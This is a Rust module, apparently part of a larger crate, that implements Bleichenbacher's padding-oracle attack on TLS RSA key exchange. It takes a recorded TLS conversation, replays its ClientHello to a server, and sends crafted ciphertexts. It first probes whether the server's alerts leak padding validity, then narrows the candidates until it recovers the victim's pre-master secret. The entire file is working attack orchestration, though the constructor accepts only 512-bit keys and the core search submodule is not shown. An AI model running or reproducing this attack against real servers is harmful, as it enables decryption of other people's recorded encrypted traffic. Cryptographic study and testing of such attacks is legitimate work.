//! Bleichenbacher's attack on RSA key exchange (CRYPTO ’98): with a recorded conversation and a server that lets out
//! whether what it decrypts is padded well, and with nothing else, the attacker gets the recorded pre-master secret.
//!
//! It is the one here who speaks: it opens connection after connection to the server. Sans I/O: [`Attack::question`]
//! says what to send, [`Attack::hear`] takes what came back. What it hears are alerts; it doesn't know which server it
//! talks to, and finds out by itself whether that is an oracle.

mod flight;
mod probe;
mod search;
mod target;

pub use probe::{Probe, Probed};
pub use target::TargetError;

use search::{LENGTH, Search, bytes};
use target::Target;
use tls_wire::AlertDescription;

/// The attack, question after question.
#[derive(Clone, Debug)]
pub struct Attack {
    target: Target,
    probed: Vec<Probed>,
    search: Option<Search>,
    questions: u64,
    narrowed: Vec<Narrowed>,
    state: State,
}

/// What a hit has left of the candidates.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Narrowed {
    /// The number of the question that hit.
    pub question: u64,
    /// How many bits it takes to number the candidates that are left.
    pub open_bits: u32,
    /// Where they lie in the range of those before: first and last of each interval, in parts of 65,535. Of very many
    /// intervals only the first are here.
    pub kept: Vec<[u16; 2]>,
}

/// How far it has come.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum State {
    /// It finds out whether the server's answers differ.
    Probing,
    /// They do: it looks for the secret.
    Searching,
    /// They don't: it has learned nothing, and never will.
    AllAlike,
    /// The pre-master secret.
    Found(Vec<u8>),
    /// The server's answers contradict each other, or what was found is no pre-master secret.
    Misled,
}

/// What it knows of the padded secret.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Knowledge {
    /// How many bits it takes to number the candidates that are left.
    pub open_bits: u32,
    /// How many it took at the beginning.
    pub all_bits: u32,
    /// In how many intervals the candidates lie.
    pub intervals: usize,
    /// The leading bytes in which all candidates agree.
    pub agreed: Vec<u8>,
    /// The length of the padded secret, in bytes.
    pub length: usize,
}

impl Attack {
    /// Takes from a recording what it needs: the ClientHello, the certificate's key, the encrypted secret.
    ///
    /// # Errors
    /// What is missing, or that the key is none of 512 bits.
    pub fn new<'a>(
        recording: impl IntoIterator<Item = (tls_transcript::Direction, &'a [u8])>,
    ) -> Result<Self, TargetError> {
        let target = Target::of(recording)?;
        Ok(Self { target, probed: Vec::new(), search: None, questions: 0, narrowed: Vec::new(), state: State::Probing })
    }

    /// What it sends first on each connection: the recorded ClientHello, once more. The server answers up to
    /// ServerHelloDone.
    pub fn client_hello(&self) -> &[u8] {
        &self.target.client_hello
    }

    /// What it sends next on the connection; none when it has finished.
    pub fn question(&self) -> Option<Vec<u8>> {
        let encrypted = match (&self.state, &self.search) {
            (State::Probing, _) => self.target.encrypt(&self.probe()?.block(self.target.version)),
            (State::Searching, Some(search)) => self.target.times(search.multiplier()),
            _ => return None,
        };
        Some(flight::second_flight(encrypted))
    }

    /// Takes the server's answer to the question.
    pub fn hear(&mut self, server: &[u8]) {
        let answer = flight::answer(server);
        self.questions += 1;
        match self.state {
            State::Probing => self.take_probed(answer),
            State::Searching => self.take_answer(answer),
            State::AllAlike | State::Found(_) | State::Misled => {}
        }
    }

    /// How far it has come.
    pub fn state(&self) -> &State {
        &self.state
    }

    /// What it asked first, and the answers.
    pub fn probed(&self) -> &[Probed] {
        &self.probed
    }

    /// How many questions the server has answered: as many as there were connections.
    pub fn questions(&self) -> u64 {
        self.questions
    }

    /// How many of them, when the search was on, hit a block that is padded well.
    pub fn accepted(&self) -> u64 {
        self.narrowed.len() as u64
    }

    /// What each of these has left.
    pub fn narrowed(&self) -> &[Narrowed] {
        &self.narrowed
    }

    /// Of how many blocks one begins as a padded one must: `n/B`, rounded down.
    pub fn odds(&self) -> u64 {
        Search::new(self.target.modulus).odds()
    }

    /// The length of the modulus in bits.
    pub fn modulus_bits(&self) -> u32 {
        self.target.modulus.bits_vartime()
    }

    /// What it knows of the padded secret. Before the search that is what everybody knows: how it begins.
    pub fn knowledge(&self) -> Knowledge {
        let start = Search::new(self.target.modulus);
        let search = self.search.as_ref().unwrap_or(&start);
        Knowledge {
            open_bits: search.open_bits(),
            all_bits: start.open_bits(),
            intervals: search.intervals(),
            agreed: search.agreed(),
            length: LENGTH,
        }
    }

    fn probe(&self) -> Option<Probe> {
        Probe::ALL.get(self.probed.len()).copied()
    }

    fn take_probed(&mut self, answer: Option<AlertDescription>) {
        let Some(probe) = self.probe() else { return };
        self.probed.push(Probed { probe, answer });
        if self.probe().is_some() {
            return;
        }
        if self.answer_to(Probe::WellFormed) == self.answer_to(Probe::WrongBeginning) {
            self.state = State::AllAlike;
            return;
        }
        self.search = Some(Search::new(self.target.modulus));
        self.state = State::Searching;
    }

    fn answer_to(&self, probe: Probe) -> Option<AlertDescription> {
        self.probed.iter().find(|probed| probed.probe == probe).and_then(|probed| probed.answer)
    }

    fn take_answer(&mut self, answer: Option<AlertDescription>) {
        let refusal = self.answer_to(Probe::WrongBeginning);
        let Some(search) = &mut self.search else { return };
        if answer == refusal {
            search.refused();
            return;
        }
        let kept = search.accepted();
        self.narrowed.push(Narrowed { question: self.questions, open_bits: search.open_bits(), kept });
        if search.is_contradictory() {
            self.state = State::Misled;
        }
        if let Some(found) = search.found() {
            self.state = unpadded(&bytes(found)).map_or(State::Misled, State::Found);
        }
    }
}

/// The pre-master secret in its padding: 00 02, bytes that are not 0, 00, the 48 bytes of the secret.
fn unpadded(block: &[u8]) -> Option<Vec<u8>> {
    let padded = block.strip_prefix(&[0, 2])?;
    let separator = padded.iter().position(|byte| *byte == 0)?;
    let secret = padded.get(separator + 1..)?;
    (secret.len() == tls_keys::PreMasterSecret::RSA_LENGTH).then(|| secret.to_vec())
}
